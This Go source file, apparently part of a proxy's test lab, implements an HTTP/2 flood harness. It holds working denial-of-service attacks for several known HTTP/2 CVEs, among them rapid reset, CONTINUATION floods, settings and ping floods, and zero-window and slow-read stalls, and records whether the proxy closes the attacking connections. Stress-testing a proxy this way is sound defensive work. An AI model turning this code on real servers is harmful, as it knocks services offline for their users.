package lab

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An AttackSpec is what the attackers of the drill floods do to a proxy.
type AttackSpec struct {
	Target string
	TLS    bool // HTTP/2 by ALPN, else by prior knowledge in clear
	Kind   string
	Conns  int
	Last   time.Duration
}

// An Attacked is what attackers did.
type Attacked struct {
	Opened int64 // connections
	Closed int64 // of them, by the proxy
	Frames int64 // that were sent
}

// An assault is one way to cost a proxy of HTTP/2 more than is paid for.
type assault struct {
	kind  string
	conns int
	cut   bool // the proxy is to end such connections at once
	begin func(a *attacker)
	again func(a *attacker) // repeated as fast as may be; nil: once a second that of slow
	slow  func(a *attacker)
}

// attackStreams is how many streams a slow client has open: all that it may.
const attackStreams = 100

// attacks are those of the CVEs of HTTP/2, by the ids of the threat list.
var assaults = []assault{
	{kind: "rapid reset", conns: 8, cut: true, again: func(a *attacker) { // D1, CVE-2023-44487
		id := a.ask("/", true)
		a.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	{kind: "made you reset", conns: 8, cut: true, again: func(a *attacker) { // D2, CVE-2025-8671
		id := a.ask("/", true)
		a.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
	}},
	{kind: "continuation", conns: 8, cut: true, begin: func(a *attacker) { a.part() }, again: func(a *attacker) { // D3, CVE-2023-45288
		a.fr.WriteContinuation(1, false, a.fields("x", "y"))
	}},
	{kind: "settings", conns: 8, cut: true, again: func(a *attacker) { a.fr.WriteSettings() }}, // D4, CVE-2019-9515
	{kind: "settings of streams", conns: 8, cut: true, begin: hold, again: func(a *attacker) { // the same with streams whose windows change
		a.fr.WriteSettings(stuffed...)
	}},
	{kind: "ping", conns: 8, cut: true, again: func(a *attacker) { a.fr.WritePing(false, [8]byte{1}) }},                                   // D4, CVE-2019-9512
	{kind: "empty data", conns: 8, cut: true, begin: post, again: func(a *attacker) { a.fr.WriteData(1, false, nil) }},                    // D4, CVE-2019-9518
	{kind: "windows", conns: 8, cut: true, begin: hold, again: func(a *attacker) { a.fr.WriteWindowUpdate(0, 1) }},                        // D4
	{kind: "connects", conns: 8, again: func(a *attacker) { a.ask("/", true); a.over = true }},                                            // a new connection for each request
	{kind: "zero window", conns: 20, begin: hold},                                                                                         // D6, CVE-2019-9517
	{kind: "tiny windows", conns: 20, begin: hold, slow: func(a *attacker) { a.each(func(id uint32) { a.fr.WriteWindowUpdate(id, 1) }) }}, // D6, CVE-2019-9511
	{kind: "never read", conns: 20, begin: func(a *attacker) { a.deaf(); large(a) }},                                                      // D6
	{kind: "heads without end", conns: 200, begin: func(a *attacker) { a.part() }},                                                        // E1
	{kind: "bodies without end", conns: 20, begin: func(a *attacker) {
		for range attackStreams {
			a.ask("/echo", false)
		}
	}, slow: func(a *attacker) { a.each(func(id uint32) { a.fr.WriteData(id, false, []byte("x")) }) }},
}

// stuffed is a frame full of the same.
var stuffed = func() (all []http2.Setting) {
	for i := range 2700 {
		all = append(all, http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 2)})
	}
	return all
}()

// hold asks for large answers and takes nothing of them.
func hold(a *attacker) {
	a.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	a.large()
}

// large asks for large answers, with all windows open.
func large(a *attacker) {
	a.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	a.fr.WriteWindowUpdate(0, 1<<30)
	a.large()
}

func post(a *attacker) { a.ask("/echo", false) }

// An attacker is one connection of an attack.
type attacker struct {
	conn  net.Conn
	out   bytes.Buffer
	fr    *http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
	next  uint32
	over  bool
	still bool // nothing is read
}

func (a *attacker) fields(pairs ...string) []byte {
	a.block.Reset()
	for i := 0; i < len(pairs); i += 2 {
		a.enc.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return a.block.Bytes()
}

// ask asks for a path on the next stream.
func (a *attacker) ask(path string, last bool) uint32 {
	id := a.next
	a.next += 2
	method := "GET"
	if !last {
		method = "POST"
	}
	a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, EndStream: last,
		BlockFragment: a.fields(":method", method, ":scheme", "http", ":authority", "attack.example", ":path", path)})
	return id
}

// part begins a head that does not end.
func (a *attacker) part() {
	a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.next, EndStream: true, BlockFragment: a.fields(":method", "GET")})
	a.next += 2
}

func (a *attacker) large() {
	for range attackStreams {
		a.ask("/bytes/4000000", true)
	}
}

func (a *attacker) each(f func(id uint32)) {
	for id := uint32(1); id < a.next; id += 2 {
		f(id)
	}
}

// deaf has the kernel take little of what comes.
func (a *attacker) deaf() { a.still = true }

// Attack attacks until the spec's time is over, and writes what came of it to out.
func Attack(ctx context.Context, spec AttackSpec, out io.Writer) error {
	var how assault
	for _, k := range assaults {
		if k.kind == spec.Kind {
			how = k
		}
	}
	if how.kind == "" {
		return fmt.Errorf("there is no attack %q", spec.Kind)
	}
	ctx, end := context.WithTimeout(ctx, spec.Last)
	defer end()
	var r Attacked
	var all sync.WaitGroup
	for range spec.Conns {
		all.Go(func() {
			for ctx.Err() == nil {
				opened, frames, closed := how.once(ctx, spec)
				atomic.AddInt64(&r.Frames, frames)
				if opened {
					atomic.AddInt64(&r.Opened, 1)
				} else {
					_ = pause(ctx, 10*time.Millisecond)
				}
				if closed {
					atomic.AddInt64(&r.Closed, 1)
				}
			}
		})
	}
	all.Wait()
	return json.NewEncoder(out).Encode(r)
}

// once attacks by one connection, until the proxy closes it or the attack is over.
func (k assault) once(ctx context.Context, spec AttackSpec) (opened bool, frames int64, closed bool) {
	a := &attacker{next: 1}
	dial := net.Dialer{Timeout: time.Second, LocalAddr: attackersAddress(spec.Target), Control: func(_, _ string, raw syscall.RawConn) error {
		if k.kind != "never read" {
			return nil
		}
		return raw.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
	}}
	conn, err := dial.DialContext(ctx, "tcp", spec.Target)
	if err != nil {
		return false, 0, false
	}
	defer conn.Close()
	if spec.TLS {
		t := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: benchHost}) // the attacker does not care
		if t.HandshakeContext(ctx) != nil {
			return false, 0, false
		}
		conn = t
	}
	a.conn = conn
	a.fr = http2.NewFramer(&a.out, nil)
	a.fr.AllowIllegalWrites = true
	a.enc = hpack.NewEncoder(&a.block)
	ended := make(chan struct{})
	stop := context.AfterFunc(ctx, func() { conn.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	a.out.WriteString(http2.ClientPreface)
	a.fr.WriteSettings()
	if k.begin != nil {
		k.begin(a)
	}
	if !a.still {
		go func() { // ends with the connection
			defer close(ended)
			_, _ = io.Copy(io.Discard, conn)
		}()
	}
	frames, err = k.press(ctx, a, ended)
	return true, frames, err != nil && ctx.Err() == nil
}

// attackersAddress is from where a proxy on the loopback is attacked: not from the address of its
// other clients, since that of an attacker is turned away. nil is any.
func attackersAddress(target string) net.Addr {
	if to, err := netip.ParseAddrPort(target); err == nil && to.Addr().Is4() && to.Addr().IsLoopback() {
		return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}
	}
	return nil
}

// press sends what the attack sends, until the connection or ctx ends.
func (k assault) press(ctx context.Context, a *attacker, ended <-chan struct{}) (frames int64, err error) {
	for {
		if k.again != nil {
			for a.out.Len() < 8<<10 && !a.over {
				k.again(a)
				frames++
			}
		}
		if _, err := a.conn.Write(a.out.Bytes()); err != nil {
			return frames, err
		}
		a.out.Reset()
		switch {
		case a.over:
			_ = pause(ctx, 5*time.Millisecond) // for the answer
			return frames, nil
		case k.again != nil:
			if ctx.Err() != nil {
				return frames, nil
			}
		default:
			select {
			case <-ctx.Done():
				return frames, nil
			case <-ended:
				return frames, io.EOF
			case <-time.After(time.Second):
			}
			if k.slow != nil {
				k.slow(a)
				frames += attackStreams
			}
		}
	}
}
